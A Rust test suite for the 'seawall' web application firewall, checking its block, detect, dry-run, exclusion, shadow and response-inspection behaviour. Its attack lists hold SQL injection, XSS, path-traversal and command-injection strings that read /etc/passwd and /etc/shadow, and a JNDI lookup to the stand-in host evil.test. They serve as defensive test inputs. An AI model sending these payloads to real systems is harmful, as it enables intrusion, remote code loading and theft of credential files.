//! The WAF between a client and an origin.

use seawall_tests::{Edge, Origin, Running};

fn guarded(origin: &Origin, mode: &str) -> Running {
    Edge::yaml(format!(
        "wafs: {{ default: {{ rules: builtin, mode: {mode} }} }}\nsites: [{{ host: a.test, waf: default, to: \"{origin}\" }}]"
    ))
    .start()
}

const ATTACKS: &[&str] = &[
    "/search?q=%27%20or%201%3D1--",
    "/?id=1%20union%20select%20password%20from%20users",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?f=../../../../etc/passwd",
    "/?x=$%7Bjndi:ldap://evil.test/a%7D",
    "/?cmd=;cat%20/etc/shadow",
];

const BENIGN: &[&str] = &[
    "/",
    "/search?q=wool+coat",
    "/search?q=rock+%26+roll",
    "/product/o-neill-select-tee",
    "/?q=it%27s+a+union+jack",
    "/?email=a.b%2Bc@d.example&price=10-20",
];

pub(crate) fn post(kind: &str, body: &str) -> String {
    format!(
        "POST /form HTTP/1.1\r\nHost: a.test\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[test]
fn an_attack_is_refused_with_an_id_and_never_reaches_the_origin() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    for attack in ATTACKS {
        let response = edge.get("a.test", attack);
        assert_eq!(response.status, 403, "{attack}");
        assert!(response.text().contains("Request id: "), "{attack}");
        assert!(
            !response.text().contains("script>alert"),
            "nothing of the request is repeated"
        );
    }
    assert_eq!(origin.connections(), 0);
    edge.counts(
        "seawall_waf_requests_total{action=\"denied\",site=\"a.test\"}",
        ATTACKS.len() as u64,
    );
    let line = edge.logged("waf: request denied by rule");
    let page = edge.get("a.test", ATTACKS[0]).text();
    let id = page
        .split("Request id: ")
        .nth(1)
        .and_then(|t| t.split('<').next())
        .unwrap();
    assert!(line.contains("request id: "), "{line}");
    edge.logged(&format!("request id: {id}"));
}

#[test]
fn ordinary_requests_pass() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    for target in BENIGN {
        assert_eq!(edge.get("a.test", target).status, 200, "{target}");
        assert_eq!(origin.last().target, *target);
    }
}

#[test]
fn detect_logs_and_counts_and_lets_through() {
    let origin = Origin::start();
    let edge = guarded(&origin, "detect");
    assert_eq!(edge.get("a.test", ATTACKS[0]).status, 200);
    assert_eq!(origin.hits("/search"), 1);
    edge.logged("would be denied");
    edge.counts(
        "seawall_waf_requests_total{action=\"detected\",site=\"a.test\"}",
        1,
    );
    // A body behind an attack in the head still arrives.
    let body = "note=hello";
    let request = post("application/x-www-form-urlencoded", body).replace("/form", ATTACKS[0]);
    assert_eq!(edge.exchange(request).status, 200);
    assert_eq!(origin.last().body, body.as_bytes());
}

#[test]
fn forms_and_json_are_looked_into() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    let form = "application/x-www-form-urlencoded";
    for (kind, body) in [
        (form, "name=x&comment=%3Cscript%3Ealert(1)%3C/script%3E"),
        (form, "id=1+union+select+password+from+users"),
        ("application/json", r#"{"a": {"b": ["x", "' or 1=1--"]}}"#),
        (
            "application/json; charset=utf-8",
            r#"{"c": "\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
        ),
    ] {
        assert_eq!(edge.exchange(post(kind, body)).status, 403, "{kind} {body}");
    }
    assert_eq!(origin.connections(), 0);
}

#[test]
fn an_inspected_body_reaches_the_origin_byte_for_byte() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    let form = "application/x-www-form-urlencoded";
    // Past 8 KiB another thread inspects, past 64 KiB the spool is a file, past 128 KiB the rest streams.
    for length in [1, 100, 9_000, 70_000, 300_000, 2_000_000] {
        let body = format!("text={}", "lorem+ipsum+".repeat(length / 12 + 1));
        let response = edge.exchange(post(form, &body));
        assert_eq!(response.status, 200, "{length}");
        assert!(origin.last().body == body.as_bytes(), "{length}");
    }
    let mut client = edge.client();
    client.send(format!("POST /form HTTP/1.1\r\nHost: a.test\r\nContent-Type: {form}\r\nTransfer-Encoding: chunked\r\n\r\n"));
    let piece = format!("text={}&", "wool+".repeat(3000));
    for _ in 0..20 {
        client.send(format!("{:x}\r\n{piece}\r\n", piece.len()));
    }
    assert_eq!(client.send("0\r\n\r\n").response().status, 200);
    assert!(origin.last().body == piece.repeat(20).as_bytes());
}

#[test]
fn an_attack_in_a_spooled_body_is_found() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    let body = format!("text={}&q=%27+or+1%3D1--", "lorem+ipsum+".repeat(7_000));
    assert_eq!(
        edge.exchange(post("application/x-www-form-urlencoded", &body))
            .status,
        403
    );
    assert_eq!(origin.connections(), 0);
}

#[test]
fn a_route_may_have_another_mode() {
    let origin = Origin::start();
    let edge = Edge::yaml(format!(
        "wafs: {{ strict: {{ mode: block }} }}
sites:
  - host: a.test
    waf: strict
    routes:
      - {{ path: /free, to: \"{origin}\", waf: off }}
      - {{ path: /, to: \"{origin}\" }}"
    ))
    .start();
    let attack = "?q=%27%20or%201%3D1--";
    assert_eq!(edge.get("a.test", &format!("/free{attack}")).status, 200);
    assert_eq!(edge.get("a.test", &format!("/{attack}")).status, 403);
}

#[test]
fn rules_of_ones_own_are_read_from_files() {
    let origin = Origin::start();
    let edge = Edge::yaml(format!(
        "wafs: {{ own: {{ rules: [rules/own.conf], mode: block, report_header: X-Rules }} }}
sites: [{{ host: a.test, waf: own, to: \"{origin}\" }}]"
    ));
    edge.write(
        "rules/own.conf",
        "SecRule ARGS:word \"@streq forbidden\" \"id:7,phase:1,deny,status:406,msg:'no'\"\n",
    );
    let edge = edge.start();
    assert_eq!(edge.get("a.test", "/?word=allowed").status, 200);
    let refused = edge.get("a.test", "/?word=forbidden");
    assert_eq!((refused.status, refused.has("X-Rules")), (406, "7"));
}

#[test]
fn a_body_that_is_not_http_gets_its_400_also_where_the_waf_reads_it() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    let mut client = edge.client();
    client.send(
        "POST /form HTTP/1.1\r\nHost: a.test\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nxyz\r\n",
    );
    let response = client.response();
    assert_eq!(response.status, 400);
    assert_eq!(response.field("Connection"), Some("close"));
    assert_eq!(origin.connections(), 0);
}

#[test]
fn a_response_that_leaks_is_replaced_and_one_that_does_not_arrives_whole() {
    let origin = Origin::start();
    let page = |body: &str| {
        format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let long = "lorem ipsum ".repeat(100_000);
    origin.answer("/leak", page("an error in your SQL syntax"));
    origin.answer("/long", page(&long));
    let guarded = |mode: &str| {
        let edge = Edge::yaml(format!(
            "wafs: {{ own: {{ rules: {{ files: [rules/*.conf] }}, mode: {mode}, response: true, report_header: X-Rules }} }}
sites: [{{ host: a.test, waf: own, compress: [gzip], to: \"{origin}\" }}]"
        )
        .replace("rules/*.conf", "rules/all.conf"));
        edge.write("rules/all.conf", "Include parts/*.conf\n");
        edge.write(
            "rules/parts/leaks.conf",
            "SecRule RESPONSE_BODY \"@contains SQL syntax\" \"id:7,phase:4,deny,status:502\"\nSecRule RESPONSE_STATUS \"@streq 200\" \"id:8,phase:3\"\n",
        );
        edge.start()
    };
    let edge = guarded("block");
    let refused = edge.get("a.test", "/leak");
    assert_eq!((refused.status, refused.has("X-Rules")), (502, "8,7"));
    assert!(!refused.text().contains("SQL syntax"));
    edge.logged("waf: response denied by rule 7");
    let whole = edge.get("a.test", "/long");
    assert_eq!((whole.status, whole.body.len()), (200, long.len()));
    assert_eq!(whole.has("X-Rules"), "8");
    // The connection serves on.
    let mut client = edge.client();
    for _ in 0..2 {
        client.send("GET /leak HTTP/1.1\r\nHost: a.test\r\n\r\n");
        assert_eq!(client.response().status, 502);
    }
    let edge = guarded("detect");
    let passed = edge.get("a.test", "/leak");
    assert!(passed.status == 200 && passed.text().contains("SQL syntax"));
    edge.logged("waf: response would be denied by rule 7");
}

/// The text between two others.
fn between<'a>(text: &'a str, before: &str, after: &str) -> &'a str {
    let rest = text.split_once(before).expect(text).1;
    rest.split_once(after).expect(text).0
}

#[test]
fn a_false_positive_is_explained_excluded_and_passes_without_a_restart() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    let said = |arguments: &[&str]| {
        let arguments = [arguments, &["-c", "seawall.yaml"]].concat();
        let output = edge.seawall(&arguments);
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout).unwrap()
    };
    let target = "/search?q=%27%20or%201%3D1--";
    let refused = edge.get("a.test", target);
    assert_eq!(refused.status, 403);
    let page = refused.text();
    let id = between(&page, "Request id: ", "<");
    let why = said(&["explain", id]);
    assert!(
        why.contains("denied by \"default\"") && why.contains("ARGS:q: ' or 1=1--"),
        "{why}"
    );
    let line = between(&why, "  - ", "\n").to_owned();
    assert!(
        line.ends_with("target: \"ARGS:q\", path: \"/search\" }"),
        "{line}"
    );
    let rules = between(&line, "rules: [", "]").replace(' ', "");
    let exclude = [
        "waf", "exclude", "--rules", &rules, "--target", "ARGS:q", "--path", "/search",
    ];
    let tried = said(&[&exclude[..], &["--dry-run"]].concat());
    assert!(
        tried.starts_with("dry run: 1 of 1 events kept are changed, 1 would have passed"),
        "{tried}"
    );
    assert_eq!(edge.get("a.test", target).status, 403);
    assert!(said(&exclude).starts_with("it holds"));
    assert_eq!(edge.get("a.test", target).status, 200);
    for other in [
        "/find?q=%27%20or%201%3D1--",
        "/search?p=%27%20or%201%3D1--",
        "/search/../find?q=%27%20or%201%3D1--",
    ] {
        assert_ne!(edge.get("a.test", other).status, 200, "{other}");
    }
    // Over a reload it holds, too; in a daemon of its own only what the configuration writes.
    said(&["reload"]);
    assert_eq!(edge.get("a.test", target).status, 200);
    let kept = Edge::yaml(format!(
        "wafs: {{ default: {{ rules: builtin, mode: block, exclude: [{line}] }} }}\nsites: [{{ host: a.test, waf: default, to: \"{origin}\" }}]"
    ))
    .start();
    assert_eq!(kept.get("a.test", target).status, 200);
    assert_eq!(kept.get("a.test", "/find?q=%27%20or%201%3D1--").status, 403);
}

#[test]
fn a_request_can_be_explained_before_it_is_made_and_secrets_are_not_kept() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    edge.write(
        "request",
        "POST /login HTTP/1.1\nHost: a.test\nContent-Type: application/x-www-form-urlencoded\n\npassword=' or 1=1--",
    );
    let run = |arguments: &[&str]| {
        let output = edge.seawall(&[arguments, &["-c", "seawall.yaml"]].concat());
        let text = [output.stdout, output.stderr].concat();
        (output.status.success(), String::from_utf8(text).unwrap())
    };
    let (done, why) = run(&["explain", "--file", "request"]);
    assert!(
        done && why.contains("ARGS:password: ***") && !why.contains("1=1"),
        "{why}"
    );
    assert!(
        why.contains("target: \"ARGS:password\", path: \"/login\""),
        "{why}"
    );
    // The query of a refused request is not kept either.
    edge.get("a.test", "/?token=%27%20or%201%3D1--");
    let (_, events) = run(&["waf", "events"]);
    assert!(
        events.contains("GET /\n") && !events.contains("1=1"),
        "{events}"
    );
    let (done, error) = run(&["explain", "no-such-id"]);
    assert!(
        !done && error.contains("no request with this id"),
        "{error}"
    );
    let (done, error) = run(&["waf", "exclude", "--rules", "1"]);
    assert!(
        !done && error.contains("the rule set has no rule 1"),
        "{error}"
    );
}

#[test]
fn matches_are_logged_as_modsecurity_logs_them() {
    let origin = Origin::start();
    let edge = guarded(&origin, "block");
    assert_eq!(edge.get("a.test", ATTACKS[0]).status, 403);
    let line = edge.logged("ModSecurity: Warning. Matched against variable `ARGS:q'");
    for part in [
        "[id \"",
        "[msg \"",
        "[severity \"CRITICAL\"]",
        "[hostname \"a.test\"] [uri \"/search\"] [unique_id \"",
        ", client: 127.0.0.1",
    ] {
        assert!(line.contains(part), "{part}: {line}");
    }
    edge.logged("ModSecurity: Access denied with code 403.");
}

#[test]
fn an_exclusion_of_what_is_not_there_is_an_error_at_its_line() {
    let edge = Edge::yaml(
        "wafs:\n  own:\n    exclude:\n      - { rules: [77], target: \"ARGS:q\" }\nsites: [{ host: a.test, waf: own, respond: 204 }]",
    );
    let checked = edge.seawall(&["check", "-c", "seawall.yaml"]);
    let text = String::from_utf8_lossy(&checked.stderr).into_owned();
    assert!(
        !checked.status.success() && text.contains("the rule set has no rule 77"),
        "{text}"
    );
    assert!(
        text.contains("{ rules: [77], target: \"ARGS:q\" }"),
        "{text}"
    );
}

#[test]
fn a_shadow_judges_the_same_requests_and_refuses_none() {
    let origin = Origin::start();
    let edge = Edge::yaml(format!(
        "wafs:\n  live: {{ rules: builtin, mode: block, shadow: next }}\n  next: {{ rules: builtin, threshold: 1000, mode: block }}\n  \
         strict: {{ rules: builtin, threshold: 1000, mode: block, shadow: live2 }}\n  live2: {{ rules: builtin, mode: block }}\n\
         sites:\n  - {{ host: a.test, waf: live, to: \"{origin}\" }}\n  - {{ host: b.test, waf: strict, to: \"{origin}\" }}"
    ))
    .start();
    // What only the one that decides refuses is refused; what only the shadow would refuse passes, and is an event.
    assert_eq!(edge.get("a.test", ATTACKS[0]).status, 403);
    assert_eq!(edge.get("b.test", ATTACKS[0]).status, 200);
    assert_eq!(edge.get("b.test", BENIGN[1]).status, 200);
    let form =
        post("application/x-www-form-urlencoded", "q=%27+or+1%3D1--").replace("a.test", "b.test");
    assert_eq!(edge.exchange(&form).status, 200);
    let count = |site: &str, result: &str, count| {
        let series = format!("seawall_waf_shadow_total{{result=\"{result}\",site=\"{site}\"}}");
        edge.counts(&series, count);
    };
    count("a.test", "shadow_passes", 1);
    count("b.test", "shadow_denies", 2);
    count("b.test", "both_pass", 1);
    // The one event of the shadow is the site's, with what would have been refused.
    edge.logged("[hostname \"b.test\"] [uri \"/form\"]");
}

#[test]
fn rules_that_are_only_tried_are_counted_and_logged_and_refuse_nothing() {
    let origin = Origin::start();
    let edge = Edge::yaml(format!(
        "wafs:\n  own: {{ rules: builtin, mode: block, dry_run: {{ rules: [142100], tags: [attack-xss] }} }}\n\
         sites: [{{ host: a.test, waf: own, to: \"{origin}\" }}]"
    ))
    .start();
    assert_eq!(
        edge.get("a.test", "/?q=%3Cscript%3Ealert(1)%3C/script%3E")
            .status,
        200
    );
    edge.counts(
        "seawall_waf_dry_run_total{rule=\"141100\",rule_set=\"own\"}",
        1,
    );
    let line = edge.logged("[id \"141100\"]");
    for part in [
        "ModSecurity: Warning.",
        "[tag \"dry-run\"]",
        "[hostname \"a.test\"]",
        "[unique_id \"",
    ] {
        assert!(line.contains(part), "{part}: {line}");
    }
    // What others than the one rule find is enough for a refusal.
    assert_eq!(
        edge.get(
            "a.test",
            "/?q=%27%20or%201%3D1--%20%3B%20union%20select%20password%20from%20users"
        )
        .status,
        403
    );
    edge.counts(
        "seawall_waf_dry_run_total{rule=\"142100\",rule_set=\"own\"}",
        1,
    );
}

#[test]
fn a_dry_run_of_what_is_not_there_is_an_error_at_its_line() {
    for (dry_run, error) in [
        ("{ rules: [77] }", "the rule set has no rule 77"),
        ("{ tags: [nothing] }", "nothing"),
        ("{}", "needs `rules`"),
    ] {
        let edge = Edge::yaml(format!(
            "wafs:\n  own: {{ rules: builtin, dry_run: {dry_run} }}\nsites: [{{ host: a.test, waf: own, respond: 204 }}]"
        ));
        let checked = edge.seawall(&["check", "-c", "seawall.yaml"]);
        let text = String::from_utf8_lossy(&checked.stderr).into_owned();
        assert!(!checked.status.success() && text.contains(error), "{text}");
        assert!(text.contains(&format!("dry_run: {dry_run}")), "{text}");
    }
}
